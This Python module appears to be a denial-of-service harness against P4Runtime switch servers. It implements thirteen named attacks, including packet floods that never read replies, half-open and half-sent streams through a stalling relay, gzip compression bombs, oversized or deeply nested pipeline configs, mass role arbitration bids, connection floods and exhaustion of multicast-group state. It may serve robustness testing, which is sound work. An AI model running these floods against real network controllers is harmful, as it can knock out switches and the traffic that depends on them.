"""Attacks on P4Runtime servers: each keeps a server as busy as it can, until it is ended."""

from __future__ import annotations

import itertools
import socket
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import grpc  # type: ignore[import-untyped]
from finsy.proto import U128, p4r, p4r_grpc

Metadata = Sequence[tuple[str, str]]

KIB, MIB = 1 << 10, 1 << 20
LARGEST = 6 * MIB - 100 * KIB  # a message that the server just takes
HELD = 5 * MIB  # bytes of it that are sent

_Set = p4r.SetForwardingPipelineConfigRequest


@dataclass
class Attacker:
    """A client without manners.

    Args:
        address: The server's, HOST:PORT.
        program: The BMv2 JSON that the server runs; its P4Info is beside it.
        metadata: What its calls bring.
    """

    address: str
    program: Path
    metadata: Metadata = ()
    roles: Iterator[int] = field(default_factory=itertools.count)
    kept: list[Any] = field(default_factory=list)  # streams, which end when nobody has them

    def connect(self, address: str | None = None) -> Any:
        """Return a stub with a connection of its own."""
        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
        options += [("grpc.max_receive_message_length", -1)]
        return p4r_grpc.P4RuntimeStub(grpc.insecure_channel(address or self.address, options))

    def stream(self, stub: Any, requests: Iterator[Any]) -> Any:
        stream = stub.StreamChannel(requests, metadata=self.metadata)
        self.kept.append(stream)
        return stream

    def bid(self) -> tuple[Any, str]:
        """Return a bid for a new role of its own, as whose primary it may write."""
        role = f"attacker {next(self.roles)}"
        update = p4r.MasterArbitrationUpdate(device_id=1, election_id=U128.encode(1))
        update.role.name = role
        return p4r.StreamMessageRequest(arbitration=update), role

    def primary(self) -> tuple[Any, str]:
        """Return a stub, and the role as whose primary it may write, if the server lets it."""
        stub = self.connect()
        request, role = self.bid()
        stream = self.stream(stub, _then_wait([request]))
        with suppress(grpc.RpcError):
            next(stream)
        threading.Thread(target=_drain, args=(stream,), daemon=True).start()
        return stub, role

    def write(self, stub: Any, role: str, updates: Sequence[Any]) -> None:
        request = p4r.WriteRequest(device_id=1, role=role, election_id=U128.encode(1))
        request.updates.extend(updates)
        with suppress(grpc.RpcError):
            stub.Write(request, metadata=self.metadata)


def deaf_streams(attacker: Attacker) -> None:
    """Stream packets of 1 MB, as fast as they go, and read nothing."""
    packet = p4r.StreamMessageRequest(packet=p4r.PacketOut(payload=bytes(MIB)))
    small = p4r.StreamMessageRequest(packet=p4r.PacketOut(payload=bytes(9 * KIB)))
    for message in (packet, small) * 4:
        attacker.stream(attacker.connect(), itertools.repeat(message))
    _wait()


def wildcard_reads(attacker: Attacker) -> None:
    """Ask for all registers a thousand times in a request, and leave, again and again."""
    everything = p4r.ReadRequest(device_id=1)
    everything.entities.extend([p4r.Entity(register_entry=p4r.RegisterEntry())] * 1000)

    def read() -> None:
        stub = attacker.connect()
        while True:
            answers = stub.Read(everything, metadata=attacker.metadata)
            with suppress(grpc.RpcError):
                next(answers)
                time.sleep(1)
            answers.cancel()

    _at_once(read, 8)


def slow_readers(attacker: Attacker) -> None:
    """Ask for all registers and for programs, and read nothing."""
    everything = p4r.ReadRequest(
        device_id=1, entities=[p4r.Entity(register_entry=p4r.RegisterEntry())] * 1000
    )
    get = p4r.GetForwardingPipelineConfigRequest(device_id=1)

    def ask() -> None:
        stub = attacker.connect()
        kept = []
        for _ in range(200):
            kept.append(stub.Read(everything, metadata=attacker.metadata))
            kept.append(stub.GetForwardingPipelineConfig.future(get, metadata=attacker.metadata))
        _wait()

    _at_once(ask, 4)


def refused_writes(attacker: Attacker) -> None:
    """Write 60 MB of updates that are refused, and as many as the server takes."""
    update = p4r.Update(type=p4r.Update.INSERT)
    update.entity.table_entry.table_id = 1

    def write() -> None:
        stub, role = attacker.primary()
        size = update.ByteSize() + 2
        for count in itertools.cycle((60 * MIB // size, LARGEST // size, 90_000)):
            attacker.write(stub, role, [update] * count)

    _at_once(write, 3)


def empty_writes(attacker: Attacker) -> None:
    """Write millions of empty updates, which take two bytes each."""
    empty = [p4r.Update()]

    def write() -> None:
        stub, role = attacker.primary()
        for count in itertools.cycle((LARGEST // 2, 99_000)):
            attacker.write(stub, role, empty * count)

    _at_once(write, 3)


def half_open(attacker: Attacker) -> None:
    """Open 4,200 streams and say nothing; open anew those that the server ends."""

    def hold() -> None:
        stub = attacker.connect()
        while True:
            streams = [attacker.stream(stub, _then_wait([])) for _ in range(70)]
            for stream in streams:
                _drain(stream)
            attacker.kept.clear()
            time.sleep(0.1)

    _at_once(hold, 60)


def half_sent(attacker: Attacker) -> None:
    """Send most of the largest message, on 200 connections, as calls and as streams."""
    port = _stalling_relay(attacker.address)
    payload = p4r.WriteRequest(device_id=1, role="x" * LARGEST)
    packet = p4r.StreamMessageRequest(packet=p4r.PacketOut(payload=bytes(LARGEST)))

    def send(number: int) -> None:
        stub = attacker.connect(f"127.0.0.1:{port}")
        while True:
            if number % 2:
                request, _ = attacker.bid()
                _drain(attacker.stream(stub, _then_wait([request, packet])))
            else:
                with suppress(grpc.RpcError):
                    stub.Write(payload, metadata=attacker.metadata)
            time.sleep(0.1)

    for number in range(200):
        threading.Thread(target=send, args=(number,), daemon=True).start()
    _wait()


def many_roles(attacker: Attacker) -> None:
    """Bid for a new role on each of 2,000 streams; bid again and again on the others."""

    def bid() -> None:
        stub = attacker.connect()
        request, _ = attacker.bid()
        attacker.stream(stub, itertools.repeat(request))
        for _ in range(250):
            request, _ = attacker.bid()
            attacker.stream(stub, _then_wait([request]))
        _wait()

    _at_once(bid, 8)


def many_calls(attacker: Attacker) -> None:
    """Make short calls, a hundred at a time."""

    def ask() -> None:
        stub = attacker.connect()
        while True:
            asked = [
                stub.Capabilities.future(p4r.CapabilitiesRequest(), metadata=attacker.metadata)
                for _ in range(25)
            ]
            for each in asked:
                with suppress(grpc.RpcError):
                    each.result()

    _at_once(ask, 4)


def many_connections(attacker: Attacker) -> None:
    """Keep 1,900 connections open, half of them silent, and connect again when they are closed."""
    host, _, port = attacker.address.rpartition(":")

    def hold() -> None:
        while True:
            with suppress(OSError), socket.create_connection((host, int(port))) as one:
                while one.recv(4096):
                    pass
            time.sleep(0.1)

    threads = [threading.Thread(target=hold, daemon=True) for _ in range(950)]
    for thread in threads:
        thread.start()
    kept = [attacker.connect() for _ in range(950)]
    for stub in kept:
        with suppress(grpc.RpcError):
            stub.Capabilities(p4r.CapabilitiesRequest(), metadata=attacker.metadata, timeout=5)
    _wait()


def bombs(attacker: Attacker) -> None:
    """Send messages that are a thousand times as large once they are unpacked."""
    bomb = p4r.WriteRequest(device_id=1, role="x" * (200 * MIB))

    def send() -> None:
        stub = attacker.connect()
        while True:
            with suppress(grpc.RpcError):
                stub.Write(bomb, metadata=attacker.metadata, compression=grpc.Compression.Gzip)

    send()


def programs(attacker: Attacker) -> None:
    """Set the largest programs again and again: right ones, nests of lists, and empty P4Info."""
    text = attacker.program.read_bytes()
    right = p4r.ForwardingPipelineConfig(p4_device_config=text)
    padded = p4r.ForwardingPipelineConfig(p4_device_config=text + b" " * (LARGEST - len(text)))
    nest = p4r.ForwardingPipelineConfig(p4_device_config=b"[" + b"[]," * (LARGEST // 3) + b"[]]")
    info = p4r.ForwardingPipelineConfig(p4_device_config=text)
    info.p4info.tables.extend([type(info.p4info.tables.add())()] * (400 * KIB))
    for config in (right, padded, nest):
        config.p4info.SetInParent()

    def load() -> None:
        stub, role = attacker.primary()
        for config in itertools.cycle((padded, nest, info, right)):
            request = _Set(device_id=1, role=role, election_id=U128.encode(1), config=config)
            request.action = _Set.VERIFY
            with suppress(grpc.RpcError):
                stub.SetForwardingPipelineConfig(request, metadata=attacker.metadata)

    _at_once(load, 6)


def growth(attacker: Attacker) -> None:
    """Fill the switch with groups of many replicas."""
    numbers = itertools.count(1)

    def fill() -> None:
        stub, role = attacker.primary()
        while True:
            updates = []
            for number in itertools.islice(numbers, 50):
                update = p4r.Update(type=p4r.Update.INSERT)
                group = update.entity.packet_replication_engine_entry.multicast_group_entry
                group.multicast_group_id = number % 65_535 + 1
                for instance in range(2000):
                    group.replicas.add(egress_port=1, instance=instance)
                updates.append(update)
            attacker.write(stub, role, updates)

    _at_once(fill, 2)


ATTACKS: dict[str, Callable[[Attacker], None]] = {
    each.__name__.replace("_", "-"): each
    for each in (
        deaf_streams, wildcard_reads, slow_readers, refused_writes, empty_writes, half_open,
        half_sent, many_roles, many_calls, many_connections, bombs, programs, growth,
    )
}  # fmt: skip
"""By name."""


def _then_wait(requests: Sequence[Any]) -> Iterator[Any]:
    """Yield requests, and then keep the stream open."""
    yield from requests
    _wait()


def _drain(stream: Any) -> None:
    with suppress(grpc.RpcError):
        for _ in stream:
            pass


def _wait() -> None:
    threading.Event().wait()


def _at_once(work: Callable[[], None], count: int) -> None:
    for _ in range(count):
        threading.Thread(target=work, daemon=True).start()
    _wait()


def _stalling_relay(address: str) -> int:
    """Return the port of a relay that passes on `HELD` bytes of each connection, and no more."""
    host, _, port = address.rpartition(":")
    listener = socket.create_server(("127.0.0.1", 0), backlog=500)

    def pump(source: socket.socket, target: socket.socket, most: float) -> None:
        passed = 0
        with suppress(OSError):
            while passed < most and (data := source.recv(64 * KIB)):
                target.sendall(data)
                passed += len(data)
        if passed < most:
            for end in (source, target):
                end.close()

    def relay() -> None:
        while True:
            client, _ = listener.accept()
            with suppress(OSError):
                server = socket.create_connection((host, int(port)))
                for source, target, most in ((client, server, HELD), (server, client, 1 << 60)):
                    threading.Thread(target=pump, args=(source, target, most), daemon=True).start()

    threading.Thread(target=relay, daemon=True).start()
    return int(listener.getsockname()[1])
